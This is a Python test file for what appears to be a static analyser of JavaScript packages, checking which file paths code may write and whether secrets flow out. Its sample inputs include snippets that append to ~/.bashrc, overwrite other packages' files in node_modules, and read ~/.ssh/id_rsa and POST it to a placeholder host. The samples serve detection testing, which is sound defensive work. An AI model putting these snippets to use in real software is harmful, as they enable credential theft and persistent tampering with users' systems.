"""Paths that one expression gives for several files."""

import pytest

from pratique.analysis.facts import Capability, Taint
from pratique.analysis.languages.javascript.paths import is_for_readers
from tests.analysis.languages.javascript.reading import facts

HEAD = "const fs = require('fs'), os = require('os'), path = require('path');\n"


def written(source: str) -> list[str | None]:
    return [use.argument for use in facts(HEAD + source).uses if use.capability is Capability.FILE_WRITE]


@pytest.mark.parametrize(
    "source",
    [
        "for (const n of ['.inputrc', '.bashrc']) fs.appendFileSync(path.join(os.homedir(), n), x)",
        "const all = ['.inputrc', '.bashrc'];\nall.forEach(n => fs.appendFileSync(path.join(os.homedir(), n), x))",
        "for (const [n, text] of [['.inputrc', 1], ['.bashrc', 2]]) fs.appendFileSync(path.join(os.homedir(), n), text)",
        "const put = (n, text) => fs.appendFileSync(`${os.homedir()}/${n}`, text);\nput('.inputrc', 1);\nput('.bashrc', 2);",
    ],
    ids=["a loop", "each of an array", "pairs", "calls of a helper"],
)
def test_an_element_stands_for_the_name_where_it_tells_more(source: str) -> None:
    assert ["~/.bashrc"] == written(source)


@pytest.mark.parametrize(
    "source",
    [
        "for (const n of ['.inputrc', '.toprc']) fs.appendFileSync(path.join(os.homedir(), n), x)",
        "for (const n of names) fs.appendFileSync(path.join(os.homedir(), n), x)",
        "let n = '.bashrc';\nn = other();\nfs.appendFileSync(path.join(os.homedir(), n), x)",
    ],
    ids=["names of nothing", "names of its user", "several values"],
)
def test_it_does_not_where_nothing_more_is_told(source: str) -> None:
    assert [None] == written(source)


def test_a_package_of_others_is_named_by_an_element() -> None:
    source = "for (const n of ['a/index.js', 'b/index.js']) fs.appendFileSync(`${process.cwd()}/node_modules/${n}`, x)"
    assert ["${cwd}/node_modules/a/index.js"] == written(source)


def test_what_is_read_there_holds_credentials() -> None:
    source = "const [a, b] = ['config', 'id_rsa'].map(n => fs.readFileSync(`${os.homedir()}/.ssh/${n}`));\nfetch('https://a.invalid', {method: 'POST', body: b})"
    assert any(Taint.SECRETS in flow.taints for flow in facts(HEAD + source).flows)


@pytest.mark.parametrize(
    "path", ["../LICENSE", "__dirname/readme.md", "a/logo.PNG", "index.js.map", "x.woff2"]
)
def test_what_people_look_at_or_read(path: str) -> None:
    assert is_for_readers(path)


@pytest.mark.parametrize("path", ["a.js", "license.js", "data.json", "a.wasm", "map", "template.md", "${_}"])
def test_what_programs_read(path: str) -> None:
    assert not is_for_readers(path)


def _ways(source: str) -> list[str | None]:
    return [use.argument for use in facts(source).written]


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("fs.writeFileSync(a ? '/kite' : '/string', '')", ["/kite", "/string"]),
        ("fs.writeFileSync(a && '/kite', '')", [None, "/kite"]),
        ("fs.renameSync('/kite', '/string')", ["/kite", "/string"]),
        ("for (const to of ['/kite', '/string']) fs.writeFileSync(to, '')", ["/kite", "/string"]),
        ("const w = (to) => fs.writeFileSync(to, ''); w('/kite'); w('/string')", ["/kite", "/string"]),
        ("const w = (to) => fs.writeFileSync(to, ''); w('/kite'); module.exports = w", [None]),
        (
            "fs.writeFileSync(" + " ".join("a ? '/kite' :" for _ in range(20)) + " '/string', '')",
            [None, "/kite"],
        ),
    ],
)
def test_every_path_that_may_be_written_is_told(source: str, expected: list[str | None]) -> None:
    assert expected == sorted(_ways(f"const fs = require('fs');\n{source};\n"), key=lambda path: path or "")
